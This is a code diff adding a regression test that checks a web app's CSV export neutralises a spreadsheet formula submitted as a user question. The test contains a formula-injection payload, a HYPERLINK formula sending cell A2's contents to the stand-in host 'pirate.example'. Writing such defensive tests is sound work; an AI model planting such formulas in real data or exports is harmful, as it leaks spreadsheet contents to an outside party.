@@ -6,6 +6,8 @@ session middleware, to record what Gradio 6 enforces by itself.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import timedelta
 from urllib.parse import parse_qs, urlsplit
@@ -16,6 +18,7 @@ from ui_fixtures import PASSWORD, copy_index, settings_for
 from web_client import login, logout
 from fastapi.testclient import TestClient
 
+from assistant.insights.exports import FORMULA_STARTS
 from assistant.review.service import ReviewService
 from assistant.review.store import utcnow
 from assistant.ui.auth import COOKIE, CSRF_COOKIE, PROTECTED, SessionCookies
@@ -243,3 +246,17 @@ def test_login_is_throttled_per_account(bare_app):
         "after 5 failures even the right password waits"
     assert int(blocked.headers["retry-after"]) >= 1
     assert login(bare_app, name="bob").status_code == 303, "another account is not held up"
+
+
+def test_a_formula_typed_as_a_question_reaches_the_csv_export_as_text(bare_app):
+    """Issue #15, item 4: a question '=HYPERLINK(...)' landed at the start of a CSV cell."""
+    attack = '=HYPERLINK("http://pirate.example/?q="&A2;"Voir la réponse")'
+    bare_app.app.state.desk.ask(attack, session="acheteur")  # alone in its group: the first example
+    assert login(bare_app).status_code == 303
+    export = bare_app.get("/reseau/export/sujets.csv", params={"periode": "Depuis le début"})
+    assert export.headers["content-disposition"] == 'attachment; filename="sujets-recurrents-depuis-le-debut.csv"'
+    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert any(cell.startswith("'" + attack) for cell in cells), f"the question is exported as text: {rows}"
+    starts = [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)]
+    assert starts == [], f"cells a spreadsheet would run as formulas: {starts}"
